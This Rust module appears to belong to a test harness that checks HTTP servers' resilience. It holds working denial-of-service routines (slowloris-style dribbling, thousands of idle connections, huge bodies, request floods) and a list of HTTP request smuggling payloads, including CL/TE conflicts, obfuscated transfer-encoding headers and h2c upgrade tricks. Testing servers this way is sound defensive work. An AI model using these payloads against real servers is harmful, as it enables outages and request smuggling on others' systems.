//! Attacks over HTTP/1.1, and over TLS before any HTTP.

use super::servers::SOME_CLOSED;
use super::wire::{Fate, connect, connect_from_elsewhere, fate_of, read_to_end, send};
use std::io::Read;
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

const GET_LARGE: &[u8] = b"GET /bytes/1000000000 HTTP/1.1\r\nhost: a\r\n\r\n";
const SECOND: Duration = Duration::from_secs(1);

fn idle_connections(address: SocketAddr, count: usize, first: &[u8]) -> Vec<TcpStream> {
    let mut idle_connections: Vec<_> = (0..count).map(|_| connect(address)).collect();
    for socket in &mut idle_connections {
        send(socket, first);
    }
    idle_connections
}

/// The fates of all, after a time without another byte.
fn fates(mut idle_connections: Vec<TcpStream>, time: Duration) -> Vec<Fate> {
    std::thread::sleep(time);
    idle_connections
        .iter_mut()
        .map(|socket| fate_of(socket, SECOND))
        .collect()
}

/// Whether some of them were ended in this time, without a read, which would make room for more of an answer. A server
/// resets those that it leaves, as long as connections or its memory for such answers are scarce.
fn unread_fates(idle_connections: &[TcpStream], time: Duration) -> Vec<Fate> {
    std::thread::sleep(time);
    let is_open = |socket: &TcpStream| matches!(socket.take_error(), Ok(None));
    match idle_connections.iter().all(is_open) {
        true => vec![Fate::Open],
        false => vec![Fate::Text(SOME_CLOSED.into())],
    }
}

pub(crate) fn unread(address: SocketAddr) -> Vec<Fate> {
    unread_fates(&idle_connections(address, 200, GET_LARGE), 35 * SECOND)
}

pub(crate) fn pipelined(address: SocketAddr) -> Vec<Fate> {
    let requests = b"GET /bytes/60000 HTTP/1.1\r\nhost: a\r\n\r\n".repeat(1_500);
    unread_fates(&idle_connections(address, 20, &requests), 35 * SECOND)
}

pub(crate) fn slow_heads(address: SocketAddr) -> Vec<Fate> {
    dribbled(address, b"GET / HTTP/1.1\r\nx: ", 17)
}

pub(crate) fn slow_bodies(address: SocketAddr) -> Vec<Fate> {
    let head = b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n";
    dribbled(address, head, 25)
}

/// A ClientHello of 1,000 bytes of which one comes each second.
pub(crate) fn slow_hellos(address: SocketAddr) -> Vec<Fate> {
    let begun = [22, 3, 1, 3, 232, 1, 0, 3, 228, 3, 3];
    dribbled(address, &begun, 12)
}

/// A byte a second behind `first`.
fn dribbled(address: SocketAddr, first: &[u8], seconds: u32) -> Vec<Fate> {
    let mut idle_connections = idle_connections(address, 200, first);
    for _ in 0..seconds {
        std::thread::sleep(SECOND);
        for socket in &mut idle_connections {
            send(socket, b"x");
        }
    }
    fates(idle_connections, SECOND)
}

pub(crate) fn huge_body(address: SocketAddr) -> Vec<Fate> {
    const BYTES: usize = 256 << 20;
    let mut socket = connect(address);
    let _ = socket.set_write_timeout(Some(20 * SECOND));
    send(
        &mut socket,
        format!("POST / HTTP/1.1\r\nhost: a\r\ncontent-length: {BYTES}\r\n\r\n").as_bytes(),
    );
    let piece = vec![0; 1 << 20];
    for _ in 0..BYTES / piece.len() {
        send(&mut socket, &piece);
    }
    vec![fate_of(&mut socket, SECOND)]
}

/// 4,000 connections of one address that send nothing.
pub(crate) fn many_idle(address: SocketAddr) -> Vec<Fate> {
    let idle_connections = idle_connections(address, 4_000, b"");
    std::thread::sleep(2 * SECOND);
    drop(idle_connections);
    vec![Fate::Open]
}

/// Requests whose end two parsers see in different places (RFC 9112 section 6.3, and CVEs of the
/// last years). Behind each stands another request.
const SMUGGLED: &[&[u8]] = &[
    b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\ncontent-length: 5\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 5\r\ncontent-length: 6\r\n\r\nabcde",
    b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: +5\r\n\r\nabcde",
    b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding : chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nhost: a\r\nx: y\r\n transfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nhost: a\r\nx: \0\r\n\r\n",
    b"POST / HTTP/1.1\nhost: a\ncontent-length: 5\n\nabcde",
    b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n0x5\r\nabcde\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n5;\n\r\nabcde\r\n0\r\n\r\n",
    b"POST / HTTP/1.0\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\nhost: a\r\nhost: b\r\n\r\n",
];

pub(crate) fn smuggled(address: SocketAddr) -> Vec<Fate> {
    let attempt = |bytes: &&[u8]| {
        let mut socket = connect(address);
        send(&mut socket, bytes);
        send(&mut socket, b"GET /smuggled HTTP/1.1\r\nhost: a\r\n\r\n");
        answers(&mut socket, 5 * SECOND)
    };
    SMUGGLED.iter().map(attempt).collect()
}

/// CONNECT, and bytes for the tunnel before it is there.
pub(crate) fn early_tunnel(address: SocketAddr) -> Vec<Fate> {
    let mut socket = connect(address);
    send(
        &mut socket,
        b"CONNECT a:443 HTTP/1.1\r\nhost: a:443\r\n\r\nGET /smuggled HTTP/1.1\r\nhost: a\r\n\r\n",
    );
    vec![answers(&mut socket, 5 * SECOND)]
}

/// An upgrade to HTTP/2 in clear, and the preface behind it.
pub(crate) fn h2c_upgrade(address: SocketAddr) -> Vec<Fate> {
    let mut socket = connect(address);
    send(
        &mut socket,
        b"GET / HTTP/1.1\r\nhost: a\r\nconnection: upgrade, http2-settings\r\nupgrade: h2c\r\n\
          http2-settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    );
    vec![answers(&mut socket, 5 * SECOND)]
}

/// A scheme that is not the connection's, a thousand times.
pub(crate) fn foreign_scheme(address: SocketAddr) -> Vec<Fate> {
    let mut socket = connect(address);
    let mut bytes = Vec::new();
    for _ in 0..100 {
        let request = b"GET https://bank.example/ HTTP/1.1\r\nhost: a\r\n\r\n".repeat(10);
        send(&mut socket, &request);
        read_to_end(&mut socket, Duration::ZERO, &mut bytes);
    }
    vec![answers_in(&mut socket, SECOND, bytes)]
}

fn answers(socket: &mut TcpStream, time: Duration) -> Fate {
    answers_in(socket, time, Vec::new())
}

/// The statuses of all answers, runs of one status as one, and whether the connection is open.
fn answers_in(socket: &mut TcpStream, time: Duration, mut bytes: Vec<u8>) -> Fate {
    let ended = read_to_end(socket, time, &mut bytes);
    let text = String::from_utf8_lossy(&bytes);
    let mut words: Vec<&str> = text
        .split("HTTP/1.1 ")
        .skip(1)
        .filter_map(|answer| answer.get(..3))
        .collect();
    words.dedup();
    words.push(if ended { "closed" } else { "open" });
    Fate::Text(words.join(" "))
}

/// 20,000 requests of one address, 100 at a time: what became of the last one.
pub(crate) fn too_many_requests(address: SocketAddr) -> Vec<Fate> {
    const BATCH: usize = 100;
    let mut socket = connect_from_elsewhere(address);
    let requests = b"HEAD / HTTP/1.1\r\nhost: a\r\n\r\n".repeat(BATCH);
    let mut fate = Fate::Closed;
    for _ in 0..200 {
        if !send(&mut socket, &requests) {
            break;
        }
        match heads(&mut socket, BATCH) {
            Some(status) => fate = Fate::Text(status),
            None => return vec![Fate::Closed],
        }
    }
    vec![fate]
}

/// An answer of 64 MiB, and a request behind it.
pub(crate) fn too_many_bytes(address: SocketAddr) -> Vec<Fate> {
    let mut socket = connect_from_elsewhere(address);
    let large = b"GET /bytes/67108864 HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n";
    send(&mut socket, large);
    let mut answer = Vec::new();
    if !read_to_end(&mut socket, 30 * SECOND, &mut answer) {
        return vec![Fate::Open];
    }
    let mut socket = connect_from_elsewhere(address);
    send(&mut socket, b"HEAD / HTTP/1.1\r\nhost: a\r\n\r\n");
    vec![heads(&mut socket, 1).map_or(Fate::Closed, Fate::Text)]
}

/// Reads the heads of `count` answers without content: the status of the last.
fn heads(socket: &mut TcpStream, count: usize) -> Option<String> {
    let mut bytes = Vec::new();
    let mut piece = [0; 16 * 1024];
    let until = Instant::now() + 10 * SECOND;
    while bytes.windows(4).filter(|it| it == b"\r\n\r\n").count() < count {
        match socket.read(&mut piece) {
            Ok(0) => return None,
            Ok(read) => bytes.extend_from_slice(&piece[..read]),
            Err(_) if Instant::now() < until => {}
            Err(_) => return None,
        }
    }
    let text = String::from_utf8_lossy(&bytes);
    let last = text.rsplit("HTTP/1.1 ").next()?;
    last.get(..3).map(str::to_owned)
}
